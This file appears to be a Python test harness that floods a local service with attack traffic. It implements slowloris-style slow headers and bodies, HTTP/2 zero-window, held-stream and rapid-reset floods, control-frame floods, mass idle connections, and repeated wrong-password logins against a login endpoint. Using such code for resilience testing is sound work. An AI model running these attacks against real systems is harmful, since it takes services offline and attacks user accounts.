"""The traffic of attackers. Each attack is a generator on a target: it yields once when its connections are
open, and then repeatedly while it continues. Its connections close when its process ends."""

import errno
import itertools
import json
import random
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
FILE = "/docs/swagger-ui.js"
CONNECTIONS_AT_ONCE = 10_000


class Target:
    """The service, and the loopback addresses of the attackers."""

    def __init__(self, port, addresses=8):
        self.port = port
        self.sources = itertools.cycle(f"127.0.{2 + n // 250}.{1 + n % 250}" for n in range(addresses))

    def connect(self, begin=b""):
        """Opens a connection and sends this, without waiting for the other side: the kernel buffers it."""
        connection = socket.socket()
        connection.bind((next(self.sources), 0))
        connection.settimeout(0.5)
        try:
            connection.connect(("127.0.0.1", self.port))
            connection.sendall(begin)
        except OSError:
            pass  # The buffer is full, or the connection was closed.
        return connection


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """Encodes a string in the simplest form of HPACK; none here has more than 126 bytes."""
    return bytes([len(value)]) + value.encode()


def head(method, path, fields=()):
    always = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "svc.test")]
    return b"".join(b"\0" + text(name) + text(value) for name, value in [*always, *fields])


def hold(connections):
    """Keeps connections open and sends nothing."""
    while connections:
        yield
        time.sleep(0.1)


def trickle(target, connections, begin):
    """Sends a byte on each connection every second, at a time of its own, and reopens closed connections."""
    due = time.monotonic()
    while True:
        yield
        for index, connection in enumerate(connections):
            due = max(due + 1 / len(connections), time.monotonic() - 1)
            time.sleep(max(0, due - time.monotonic()))
            try:
                connection.send(b"x")
            except OSError:
                connection.close()
                connections[index] = target.connect(begin)


def pour(target, count, begin, more):
    """Sends on every connection as fast as possible, and reopens closed connections."""
    connections = [target.connect(begin) for _ in range(count)]
    yield
    for connection in connections:
        connection.setblocking(False)
    while True:
        blocked = 0
        for index, connection in enumerate(connections):
            try:
                while connection.recv(65_536):
                    pass
                raise ConnectionResetError
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                connections[index] = target.connect(begin)
                connections[index].setblocking(False)
                continue
            try:
                connection.send(more())
            except BlockingIOError:
                blocked += 1
            except OSError:
                continue
        yield
        if blocked == len(connections):
            time.sleep(0.005)


def zero_windows(target, count=150):
    """HTTP/2 connections that each request a large file 100 times, with windows of 0."""
    settings = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    ask = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, head("GET", FILE)) for n in range(100)
    )
    yield from hold([target.connect(PREFACE + settings + ask) for _ in range(count)])


def slow_heads(target, count=1_000):
    """HTTP/1 connections with a head that does not end and grows by one byte per second."""
    begin = b"GET / HTTP/1.1\r\nhost: svc.test\r\nx: " + b"x" * 16_000
    yield from trickle(target, [target.connect(begin) for _ in range(count)], begin)


def slow_bodies(target, count=1_000):
    """HTTP/1 connections with a body that does not end and grows by one byte per second."""
    head = b"POST /api/v1/auth/login HTTP/1.1\r\nhost: svc.test\r\ncontent-type: application/json\r\n"
    begin = head + b"content-length: 16000\r\n\r\n" + b" " * 15_000
    yield from trickle(target, [target.connect(begin) for _ in range(count)], begin)


def held_streams(target, count=150):
    """HTTP/2 connections, each with 100 requests of 100 fields whose bodies do not end."""
    fields = [("content-type", "application/json")] + [("x", "y")] * 95
    begin = lambda stream: frame(HEADERS, END_HEADERS, stream, head("POST", "/api/v1/auth/login", fields))
    ask = b"".join(begin(2 * n + 1) + frame(DATA, 0, 2 * n + 1, b"x" * 600) for n in range(100))
    yield from hold([target.connect(PREFACE + frame(SETTINGS, 0, 0) + ask) for _ in range(count)])


def unread_answers(target, count=500):
    """HTTP/1 connections that request a large file 50 times and read nothing."""
    ask = f"GET {FILE} HTTP/1.1\r\nhost: svc.test\r\n\r\n".encode() * 50
    yield from hold([target.connect(ask) for _ in range(count)])


def control_frames(target, count=20):
    """HTTP/2 connections that send only pings and settings, and are reopened when they are closed."""
    more = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 100
    yield from pour(target, count, PREFACE + frame(SETTINGS, 0, 0), lambda: more)


def rapid_reset(target, count=20):
    """HTTP/2 connections that begin requests and reset them at once, and are reopened when closed."""
    streams = itertools.count(1, 2)

    def more():
        begin = next(streams) % 2**20 * 2 + 1
        each = range(begin, begin + 100, 2)
        ask = head("GET", "/users/me")
        begin_and_reset = lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, ask) + frame(RESET, 0, n, b"\0\0\0\x08")
        return b"".join(map(begin_and_reset, each))

    yield from pour(target, count, PREFACE + frame(SETTINGS, 0, 0), more)


def many_connections(target, count=CONNECTIONS_AT_ONCE):
    """Connections that send nothing, from forty addresses."""
    connections = []
    for _ in range(count):
        connection = socket.socket()
        connection.bind((next(target.sources), 0))
        connection.setblocking(False)
        if connection.connect_ex(("127.0.0.1", target.port)) not in (0, errno.EINPROGRESS):
            connection.close()
            break
        connections.append(connection)
    yield from hold(connections)


def guesses(target, count=64, rate=1_000, answers=None):
    """Sends wrong passwords for one account at this rate on average, each at a random time, on connections that read
    the answers: five pass for each address, and then none for a minute."""
    head = b"POST /api/v1/auth/login HTTP/1.1\r\nhost: svc.test\r\ncontent-type: application/json\r\n"
    body = json.dumps({"email": "ada@example.com", "password": "wrong horse battery"}).encode()
    guess = head + b"content-length: %d\r\n\r\n" % len(body) + body
    connections = [target.connect() for _ in range(count)]
    asked, due = [False] * count, time.monotonic()
    for index in itertools.cycle(range(count)):
        yield
        # Strangers do not wait for each other. After a stall, the guesses of one second are made up for.
        due = max(due, time.monotonic() - 1) + random.expovariate(rate)
        time.sleep(max(0, due - time.monotonic()))
        connection = connections[index]
        connection.settimeout(5)
        try:
            if asked[index]:
                status = connection.recv(65_536)[9:12]
                if not status:
                    raise ConnectionResetError
                if answers is not None:
                    answers[0 if status == b"429" else 1] += 1
            connection.sendall(guess)
            asked[index] = True
        except OSError:
            if answers is not None:
                answers[1] += asked[index]
            connection.close()
            connections[index], asked[index] = target.connect(), False


def part(attack, share):
    """Returns the attack with a share of its connections."""
    count = attack.__defaults__[0] // share
    return lambda target: attack(target, count)


ALONE = (
    zero_windows,
    slow_heads,
    slow_bodies,
    held_streams,
    unread_answers,
    control_frames,
    rapid_reset,
    many_connections,
)
# The attacks that run at the same time, each in its own process.
ATTACKS = {attack.__name__: [attack] for attack in ALONE} | {"all_of_them": [part(attack, 4) for attack in ALONE]}
